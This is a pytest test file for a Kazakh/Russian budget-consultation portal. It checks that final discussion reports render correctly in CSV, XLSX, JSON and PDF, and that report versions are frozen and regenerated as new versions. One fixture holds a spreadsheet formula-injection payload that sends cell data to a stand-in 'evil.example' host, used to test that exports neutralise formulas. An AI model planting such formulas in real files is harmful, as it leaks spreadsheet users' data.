"""R17 final reports: the Annex 1/2 form, the data against a hand-computed example, every file
format read back, frozen versions, and generation when a discussion ends.

Real parts: a real SQLite file made by ``submit_api.db.init_db``, real files, and ``pdftotext``
(poppler-utils) to read the PDF back. The rendered example is shared by the module.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ashyq import annex as annex_labels
from ashyq.annex import COLUMN_KEYS, FIELD_KEYS, annex
from submit_api.db import connect, init_db
from submit_api.reports.data import report_data
from submit_api.reports.render import render_report, report_view
from submit_api.reports.store import (NoReport, current_report, generate_due_reports, regenerate,
                                      report_files, report_versions, verify_report)
from tests.helpers import moderate_pending
from tests.helpers import ACCEPTED, ACCEPTED_ANSWER, DOCUMENT, GENERATED, PERSON, REJECTED, REJECTED_ANSWER, REPORT_ADMINISTRATORS as ADMINISTRATORS, UID, UNANSWERED, add_votes, make_example

NBSP = "\u202f"  # Babel puts a narrow no-break space in "2025 ж." and "2025 г."









@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """The example's data and its files, rendered once for the module."""
    base = tmp_path_factory.mktemp("report")
    conn = make_example(base / "ashyq.sqlite3")
    data = report_data(conn, DOCUMENT, GENERATED, version=1)
    conn.close()
    files = render_report(data, base / "out")
    return data, base / "out", files


# Display values of the 13 header fields (R17, Annex 1), computed by hand.
EXPECTED_HEADER = {
    "kk": ["BP-2026-225-001", f"2025{NBSP}ж. 24 ақпан", f"2025{NBSP}ж. 11 наурыз",
           f"2025{NBSP}ж. 12 наурыз", 3, 1, 3, 7, 3, "республикалық",
           "225 — Қазақстан Республикасының Оқу-ағарту министрлігі", "2026-2028",
           "Ахметов Асқар Серікұлы"],
    "ru": ["BP-2026-225-001", f"24 февраля 2025{NBSP}г.", f"11 марта 2025{NBSP}г.",
           f"12 марта 2025{NBSP}г.", 3, 1, 3, 7, 3, "республиканский",
           "225 — Министерство просвещения Республики Казахстан", "2026-2028",
           "Ахметов Аскар Серикович"],
}
EXPECTED_ROWS = {
    "kk": [
        [1, "25.02.2025", "Мақсаты", ACCEPTED, f"Қабылданды (03.03.2025): {ACCEPTED_ANSWER}", 4, 1],
        [2, "27.02.2025", "Шығыстар", REJECTED, f"Қабылданбады (05.03.2025): {REJECTED_ANSWER}", 2, 2],
        [3, "10.03.2025", "Мақсаты", UNANSWERED, "Жауап әлі берілмеген", 1, 0],
    ],
    "ru": [
        [1, "25.02.2025", "Цель", ACCEPTED, f"Принято (03.03.2025): {ACCEPTED_ANSWER}", 4, 1],
        [2, "27.02.2025", "Расходы", REJECTED, f"Отклонено (05.03.2025): {REJECTED_ANSWER}", 2, 2],
        [3, "10.03.2025", "Цель", UNANSWERED, "Ответ еще не дан", 1, 0],
    ],
}


# --- the form (ashyq.annex) ---------------------------------------------------------------------

def test_r17_annex_labels_are_the_forms_in_order():
    first, second = annex("passport"), annex("implementation_report")
    assert first.number == 1 and second.number == 2
    assert [key for key, _ in first.fields] == list(FIELD_KEYS) and len(FIELD_KEYS) == 13
    assert [key for key, _ in first.columns] == list(COLUMN_KEYS) and len(COLUMN_KEYS) == 7
    kk = [label for _key, label in first.field_labels("kk")]
    assert kk[0] == "Бірегей нөмір" and kk[3] == "Есепті қалыптастыру күні"
    assert kk[4] == 'Паспортты "жақтады" деген дауыстың барлығы'
    assert kk[12] == "Бюджеттік бағдарламаның басшы"   # as the Kazakh original writes it
    assert first.title["kk"] == ("Бюджеттік бағдарлама паспортының жария талқылаудың аяқталуы "
                                 "туралы есеп")
    # Annex 2 differs in its title and in the two dates of the implementation report
    assert dict(second.field_labels("kk"))["posted"] == (
        "Бюджеттік бағдарлама паспортының іске асыру туралы есептің орналастыру күні")
    assert dict(second.field_labels("ru"))["discussion_end"] == (
        "Дата завершения обсуждения отчета о реализации паспорта бюджетной программы")
    assert second.title["kk"].startswith("Өткен қаржы жылындағы")
    differ = [key for (key, a), (_k, b) in zip(first.fields, second.fields) if a != b]
    assert differ == ["posted", "discussion_end"]
    assert first.column_labels("kk")[3] == "Порталды пайдаланушының ұсынысының мәтіні"
    assert first.column_labels("ru")[4] == "Текст ответа государственного органа"
    for lang in ("kk", "ru"):
        assert len(set(first.column_labels(lang))) == 7
        assert annex_labels.label("budget_type", "local", lang)
        assert annex_labels.text("no_answer", lang)


def test_r17_implementation_report_uses_annex_2(example):
    data = dict(example[0], type="implementation_report")
    view = report_view(data, "ru")
    assert view.title.startswith("Отчет о завершении публичного обсуждения отчета о реализации")
    assert view.header[1][1] == "Дата размещения отчета о реализации паспорта бюджетной программы"
    with pytest.raises(ValueError):
        report_data(sqlite3.connect(":memory:"), dict(DOCUMENT, type="press_release"), GENERATED)


# --- the data -----------------------------------------------------------------------------------

def test_r17_header_fields_against_the_hand_computed_example(example):
    data = example[0]
    header = data["header"]
    assert list(header) == list(FIELD_KEYS)
    assert list(header.values()) == [
        UID, "2025-02-24", "2025-03-11", "2025-03-12",
        3, 1,            # votes on the passport
        3, 4 + 2 + 1, 1 + 2 + 0,   # published proposals and the sums of their votes
        "republican", DOCUMENT["administrator"], "2026-2028", DOCUMENT["head"]]
    assert data["note"] == {"received": 5, "refused": 1, "pending": 1}
    assert (data["annex"], data["type"], data["version"], data["title"]) == (
        1, "passport", 1, DOCUMENT["title"])


def test_r17_rows_are_the_published_proposals_unanswered_included(example):
    rows = example[0]["rows"]
    assert [(r["no"], r["id"], r["posted"], r["part"]["id"], r["lang"], r["for"], r["against"])
            for r in rows] == [(1, 1, "2025-02-25", "purpose", "kk", 4, 1),
                               (2, 3, "2025-02-27", "expenses", "ru", 2, 2),
                               (3, 5, "2025-03-10", "purpose", "kk", 1, 0)]
    assert rows[0]["answer"] == {"decision": "accept", "text": ACCEPTED_ANSWER, "date": "2025-03-03",
                                 "after_end": False}
    assert rows[1]["answer"] == {"decision": "reject", "text": REJECTED_ANSWER, "date": "2025-03-05",
                                 "after_end": False}
    assert rows[2]["answer"] is None
    assert rows[1]["part"]["title"] == {"kk": "Шығыстар", "ru": "Расходы"}


@pytest.mark.parametrize("lang", ["kk", "ru"])
def test_r17_view_shows_the_form_in_each_language(example, lang):
    view = report_view(example[0], lang)
    assert [value for _key, _label, value in view.header] == EXPECTED_HEADER[lang]
    assert [list(r) for r in view.rows] == EXPECTED_ROWS[lang]


# --- the files ----------------------------------------------------------------------------------

def pdf_text(path: Path) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], check=True,
                         capture_output=True, text=True).stdout
    return " ".join(out.replace(NBSP, " ").split())


def test_r17_layout_of_the_files(example):
    _data, out, files = example
    assert sorted(files) == [f"{lang}/report.{ext}" for lang in ("kk", "ru")
                             for ext in ("csv", "json", "pdf", "xlsx")]
    assert all(path == out / rel and path.stat().st_size > 0 for rel, path in files.items())


@pytest.mark.parametrize("lang", ["kk", "ru"])
def test_r17_csv_reads_back(example, lang):
    raw = (example[1] / lang / "report.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")          # a BOM, so Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    form = annex("passport")
    assert rows[0] == [form.title[lang]] and rows[1] == [DOCUMENT["title"][lang]]
    header = rows[3:16]
    assert [label for label, _value in header] == [label for _k, label in form.field_labels(lang)]
    assert [value for _label, value in header] == [str(v) for v in EXPECTED_HEADER[lang]]
    start = rows.index(form.column_labels(lang))
    assert rows[start + 1:] == [[str(c) for c in r] for r in EXPECTED_ROWS[lang]]
    note = rows[rows.index([annex_labels.label("note", "heading", lang)]) + 1:start - 1]
    assert [value for _label, value in note] == ["5", "1", "1", "1"]


def as_xlsx(values: list) -> list:
    """What the workbook holds: the header's and column 2's dates as real dates (issue 14)."""
    out = list(values)
    if isinstance(out[1], str) and out[1].count(".") == 2:
        out[1] = dt.datetime.strptime(out[1], "%d.%m.%Y")
    return out


XLSX_DATES = [dt.datetime(2025, 2, 24), dt.datetime(2025, 3, 11), dt.datetime(2025, 3, 12)]


@pytest.mark.parametrize("lang", ["kk", "ru"])
def test_r17_xlsx_reads_back(example, lang):
    wb = load_workbook(example[1] / lang / "report.xlsx")
    try:
        ws = wb.active
        values = [list(r) for r in ws.iter_rows(values_only=True)]
        form = annex("passport")
        labels = [f"{label}:" for _k, label in form.field_labels(lang)]
        header = [r for r in values if r[0] in labels]
        expected = list(EXPECTED_HEADER[lang])
        expected[1:4] = XLSX_DATES                   # real dates, shown as dd.mm.yyyy
        assert [(r[0], r[4]) for r in header] == list(zip(labels, expected))
        date_cell = ws.cell(values.index(header[1]) + 1, 5)
        assert date_cell.is_date and date_cell.number_format == "dd.mm.yyyy"
        start = values.index(form.column_labels(lang))
        assert values[start + 1] == [1, 2, 3, 4, 5, 6, 7]   # the form's column numbers
        assert values[start + 2:] == [as_xlsx(r) for r in EXPECTED_ROWS[lang]]
        assert ws.cell(start + 3, 2).is_date
        assert ws.freeze_panes == f"A{start + 3}"
        assert ws.column_dimensions["D"].width == 60
        assert ws.cell(start + 3, 4).alignment.wrap_text
        assert ws.print_title_rows == f"${start + 1}:${start + 2}"
        assert ws.page_setup.orientation == "landscape"
        assert wb.properties.created == dt.datetime(2025, 3, 12)
        assert values[2][0].startswith("«")          # «» quotes (issue 14)
    finally:
        wb.close()


def test_r17_json_is_the_data(example):
    data, out, _files = example
    for lang in ("kk", "ru"):
        assert json.loads((out / lang / "report.json").read_text(encoding="utf-8")) == data


@pytest.mark.parametrize("lang", ["kk", "ru"])
def test_r17_pdf_has_kazakh_letters_and_the_proposals(example, lang):
    text = pdf_text(example[1] / lang / "report.pdf")
    for letter in "әғқңөұүһі":
        assert letter in text
    for expected in (ACCEPTED, REJECTED, UNANSWERED, ACCEPTED_ANSWER, REJECTED_ANSWER,
                     annex("passport").title[lang], DOCUMENT["head"][lang],
                     annex_labels.text("no_answer", lang)):
        assert " ".join(expected.split()) in text, expected
    assert "Бірегей нөмір" in text if lang == "kk" else "Уникальный номер" in text


def test_r17_refused_pending_and_persons_are_in_no_file(example):
    _data, out, files = example
    for rel, path in files.items():
        if path.suffix == ".pdf":
            text = pdf_text(path)
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                text = "".join(z.read(name).decode("utf-8") for name in z.namelist())
        else:
            text = path.read_text(encoding="utf-8-sig")
        for secret in ("REFUSED-TEXT", "PENDING-TEXT", PERSON, "Басқа құжат"):
            assert secret not in text, (rel, secret)


def test_r17_same_data_gives_the_same_bytes(example, tmp_path):
    data, out, _files = example
    again = render_report(data, tmp_path, formats=("report.csv", "report.xlsx", "report.json"))
    for rel, path in again.items():
        assert path.read_bytes() == (out / rel).read_bytes(), rel


# --- frozen versions and generation -------------------------------------------------------------

@pytest.fixture
def db(tmp_path):
    conn = make_example(tmp_path / "ashyq.sqlite3")
    assert generate_due_reports(conn, [DOCUMENT], GENERATED, tmp_path / "waiting") == []
    moderate_pending(conn)
    yield conn
    conn.close()


def test_r17_report_is_frozen_and_regenerated_as_a_new_version(db, tmp_path):
    reports = tmp_path / "reports"
    [first_id] = generate_due_reports(db, [DOCUMENT], GENERATED, reports, ADMINISTRATORS)
    first = current_report(db, UID)
    assert first.id == first_id and first.version == 1 and first.data["header"]["document_for"] == 3
    assert verify_report(db, reports, UID) == []
    frozen = {rel: (reports / UID / "v1" / rel).read_bytes() for rel in first.files}

    add_votes(db, "document", UID, 2, 0, tag="late")        # a late vote and a late answer
    db.execute("UPDATE proposals SET status = 'accepted', answer_text = 'Кеш жауап', "
               "answered_at = '2025-03-20T10:00:00+05:00' WHERE id = 5")
    assert generate_due_reports(db, [DOCUMENT], dt.date(2025, 3, 25), reports, ADMINISTRATORS) == []
    assert current_report(db, UID) == first
    assert {rel: (reports / UID / "v1" / rel).read_bytes() for rel in first.files} == frozen

    second_id = regenerate(db, UID, [DOCUMENT], dt.date(2025, 3, 25), reports, ADMINISTRATORS)
    second = current_report(db, UID)
    assert second.id == second_id and second.version == 2
    assert second.data["header"]["document_for"] == 5 and second.data["rows"][2]["answer"]
    old = report_versions(db, UID)[0]
    assert old.version == 1 and old.superseded_at is not None
    assert {rel: (reports / UID / "v1" / rel).read_bytes() for rel in first.files} == frozen
    assert verify_report(db, reports, UID, version=1) == [] and verify_report(db, reports, UID) == []
    files = report_files(db, reports, UID)
    assert files["ru"]["report.pdf"] == reports / UID / "v2" / "ru" / "report.pdf"
    assert sorted(files["kk"]) == ["report.csv", "report.json", "report.pdf", "report.sha256.json",
                                   "report.sha256.json.p7s", "report.xlsx"]
    deliveries = db.execute("SELECT report, recipient, status, message_id FROM deliveries "
                            "ORDER BY id").fetchall()
    assert [tuple(d) for d in deliveries] == [
        (first_id, "budget225@edu.example", "pending", f"<report-{UID}-v1@ashyq.portal>"),
        (second_id, "budget225@edu.example", "pending", f"<report-{UID}-v2@ashyq.portal>")]
    kinds = db.execute("SELECT document, kind FROM site_changes").fetchall()
    assert [tuple(k) for k in kinds] == [(UID, "report"), (UID, "report")]


def test_r17_verify_report_finds_edited_missing_and_extra_files(db, tmp_path):
    reports = tmp_path / "reports"
    generate_due_reports(db, [DOCUMENT], GENERATED, reports)
    folder = reports / UID / "v1"
    csv_path = folder / "kk" / "report.csv"
    csv_path.write_bytes(csv_path.read_bytes().replace("Мақсаты".encode(), "Өзгертілді".encode()))
    (folder / "ru" / "report.xlsx").unlink()
    (folder / "ru" / "extra.txt").write_text("?", encoding="utf-8")
    problems = {(m.path, m.problem) for m in verify_report(db, reports, UID)}
    assert problems == {("kk/report.csv", "changed"), ("ru/report.xlsx", "missing"),
                        ("ru/extra.txt", "unexpected")}
    with pytest.raises(NoReport):
        verify_report(db, reports, "NO-SUCH")
    with pytest.raises(NoReport):
        report_files(db, reports, "NO-SUCH")


def test_r17_regenerate_needs_a_first_report(db, tmp_path):
    with pytest.raises(NoReport):
        regenerate(db, UID, [DOCUMENT], GENERATED, tmp_path / "reports")


def test_r17_reports_only_after_the_discussion_ends_around_holidays(small_content, build_site,
                                                                    tmp_path):
    """Ends computed by the build's working-day calendar: BP-2026-225-001 posted 2025-02-24 ends
    on 2025-03-11 (8 March fell on a Saturday, so Monday 10 March was a day off), and
    IR-2024-225-001 posted 2025-03-14 ends on 2025-04-02 (Nauryz, 21-25 March)."""
    site = build_site(small_content)
    documents = json.loads((site / "opendata" / "documents.json").read_text("utf-8"))["documents"]
    ends = {d["uid"]: d["discussion_end"] for d in documents}
    assert ends == {"BP-2026-225-001": "2025-03-11", "BP-2026-261-002": "2025-01-17",
                    "IR-2024-225-001": "2025-04-02"}
    path = tmp_path / "ashyq.sqlite3"
    init_db(path)
    conn = connect(path)
    reports = tmp_path / "reports"
    try:
        def reported():
            return sorted(r[0] for r in conn.execute("SELECT document FROM reports"))

        generate_due_reports(conn, documents, dt.date(2025, 3, 11), reports, ADMINISTRATORS)
        assert reported() == ["BP-2026-261-002"]          # the last day is still open
        generate_due_reports(conn, documents, dt.date(2025, 3, 12), reports, ADMINISTRATORS)
        assert reported() == ["BP-2026-225-001", "BP-2026-261-002"]
        assert generate_due_reports(conn, documents, dt.date(2025, 4, 2), reports) == []
        assert generate_due_reports(conn, documents, dt.date(2025, 4, 2), reports) == []
        [ir] = generate_due_reports(conn, documents, dt.date(2025, 4, 3), reports, ADMINISTRATORS)
        assert reported() == ["BP-2026-225-001", "BP-2026-261-002", "IR-2024-225-001"]
        assert generate_due_reports(conn, documents, dt.date(2025, 4, 3), reports) == []
        ir_report = current_report(conn, "IR-2024-225-001")
        assert ir_report.id == ir and ir_report.data["annex"] == 2
        assert ir_report.data["header"]["period"] == "2024"
        recipients = dict(conn.execute("SELECT r.document, d.recipient FROM deliveries d "
                                       "JOIN reports r ON r.id = d.report").fetchall())
        assert recipients == {"BP-2026-225-001": "budget225@edu.example",
                              "BP-2026-261-002": "budget261@almaty.example",
                              "IR-2024-225-001": "budget225@edu.example"}
        assert not any(p.name.startswith(".tmp") for p in reports.rglob("*"))
    finally:
        conn.close()


def test_r17_a_broken_document_does_not_stop_the_others(db, tmp_path, caplog):
    broken = dict(DOCUMENT, uid="BP-BROKEN", administrator={})     # no administrator code
    ids = generate_due_reports(db, [broken, DOCUMENT], GENERATED, tmp_path / "reports")
    assert len(ids) == 1 and current_report(db, UID) and current_report(db, "BP-BROKEN") is None
    assert "BP-BROKEN" in caplog.text
    assert not (tmp_path / "reports" / "BP-BROKEN").exists() or not any(
        (tmp_path / "reports" / "BP-BROKEN").iterdir())


def test_r17_a_worker_that_loses_the_race_throws_its_files_away(db, tmp_path):
    from submit_api.reports.store import _create

    reports = tmp_path / "reports"
    generate_due_reports(db, [DOCUMENT], GENERATED, reports)
    assert _create(db, DOCUMENT, GENERATED, reports, 1, None, True) is None
    assert sorted(p.name for p in (reports / UID).iterdir()) == ["v1", "versions.json"]
    assert db.execute("SELECT count(*) FROM reports").fetchone()[0] == 1
    assert verify_report(db, reports, UID) == []


def test_r17_pdf_table_crosses_pages_with_its_headers_and_the_form_in_order(example, tmp_path):
    """A long table: every page repeats the 7 column labels and their numbers; page 1 holds the
    13 fields in the form's order; the foot says "uid · vN" and "page / pages"."""
    data = json.loads(json.dumps(example[0]))
    long_text = " ".join([ACCEPTED] * 12)
    data["rows"] = [dict(data["rows"][i % 3], no=i + 1, text=long_text) for i in range(60)]
    data["rows"].append(dict(data["rows"][0], no=61, text="ә" * 3000))  # taller than a page
    for lang in ("kk", "ru"):
        render_report(data, tmp_path, langs=(lang,), formats=("report.pdf",))
        path = tmp_path / lang / "report.pdf"
        info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
        pages = int(next(line.split()[-1] for line in info.splitlines()
                         if line.startswith("Pages:")))
        assert pages > 3
        form = annex("passport")
        for page in range(1, pages + 1):
            text = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-enc", "UTF-8",
                                   str(path), "-"], capture_output=True, text=True).stdout
            flat = " ".join(text.replace(NBSP, " ").split())
            for label in form.column_labels(lang):   # its words in order (the number "6"
                assert in_order(label.split(), flat.split()), (lang, page, label)  # may cut in)
            assert f"{UID} · v1" in flat and f"{page} / {pages}" in flat
        first = pdf_text_page(path, 1)
        positions = [first.index(label) for _k, label in form.field_labels(lang)]
        assert positions == sorted(positions)        # the 13 fields in the form's order
        fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True).stdout
        assert fonts.count("yes") >= 3 and "NotoSans" in fonts   # embedded, with ToUnicode


def pdf_text_page(path: Path, page: int) -> str:
    out = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-enc", "UTF-8",
                          str(path), "-"], check=True, capture_output=True, text=True).stdout
    return " ".join(out.replace(NBSP, " ").split())


def in_order(words: list[str], text: list[str]) -> bool:
    rest = iter(text)
    return all(word in rest for word in words)


# --- issue 13: formula-leading text stays inert text ---------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile_report(tmp_path):
    conn = make_example(tmp_path / "db.sqlite3")
    conn.execute("UPDATE proposals SET text = ?, answer_text = ? WHERE id = 1",
                 (HYPERLINK, "@SUM(A1:A9)"))
    data = report_data(conn, DOCUMENT, GENERATED)
    conn.close()
    render_report(data, tmp_path / "out", formats=("report.csv", "report.xlsx"), parallel=False)
    return tmp_path / "out"


def test_report_csv_escapes_formulas(hostile_report):
    raw = (hostile_report / "ru" / "report.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    [row] = [r for r in rows if r and r[0] == "1"]
    assert row[3] == "'" + HYPERLINK
    assert row[4].startswith("Принято")             # "Принято (…): @SUM…" is not formula-leading


def test_report_xlsx_keeps_formulas_as_text(hostile_report):
    wb = load_workbook(hostile_report / "kk" / "report.xlsx")
    cells = [c for row in wb.active.iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)
    wb.close()


def test_r17_a_failing_language_fails_the_report(example, tmp_path, monkeypatch):
    """Rendered side by side (a forked child for ru): the child's failure is the report's."""
    from submit_api.reports import render

    original = render.report_view

    def broken(data, lang):
        if lang == "ru":
            raise ValueError("broken ru labels")
        return original(data, lang)

    monkeypatch.setattr(render, "report_view", broken)
    with pytest.raises(ChildProcessError):
        render.render_report(example[0], tmp_path, formats=("report.csv",), parallel=True)
    assert (tmp_path / "kk" / "report.csv").exists()
